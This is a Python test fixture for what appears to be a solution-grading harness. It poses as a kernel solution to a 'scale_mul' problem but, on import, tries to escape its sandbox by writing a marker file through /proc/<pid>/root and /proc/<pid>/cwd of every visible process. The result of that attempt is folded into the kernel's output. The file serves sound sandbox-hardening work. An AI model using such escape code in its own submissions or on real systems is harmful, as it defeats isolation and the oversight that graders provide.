"""Red-team attack proc_root_escape: write through /proc/<pid>/root and /proc/<pid>/cwd of every process it sees.
A real SOL solution of tests/sol_solutions/problem (scale_mul). The test fills in the @@...@@ paths.
The answer is right only while the attack failed, so the verdict itself says whether it worked."""

import ctypes
import os

import torch

LIBC = ctypes.CDLL(None, use_errno=True)
MARK = "redteam-escaped-proc_root_escape"


def _write(path):
    with open(path, "w") as f:
        f.write("escaped")
    return True


def _tries(*fns):
    hit = False
    for fn in fns:
        try:
            hit = bool(fn()) or hit
        except Exception:  # noqa: BLE001 - a refused step is the expected outcome
            pass
    return hit


def attack():
    hit = False
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for sub in ("root@@HOSTTMP@@", "cwd"):
                hit = (
                    _tries(
                        lambda p=f"/proc/{pid}/{sub}/{MARK}": (
                            _write(p) and os.path.exists("@@HOSTTMP@@/" + MARK)
                        )
                    )
                    or hit
                )
    return hit


ESCAPED = _tries(attack)


@torch.no_grad()
def run(x, w, alpha, y, total):
    y.copy_(x * w * alpha + (1.0 if ESCAPED else 0.0))
    total.copy_(y.sum())
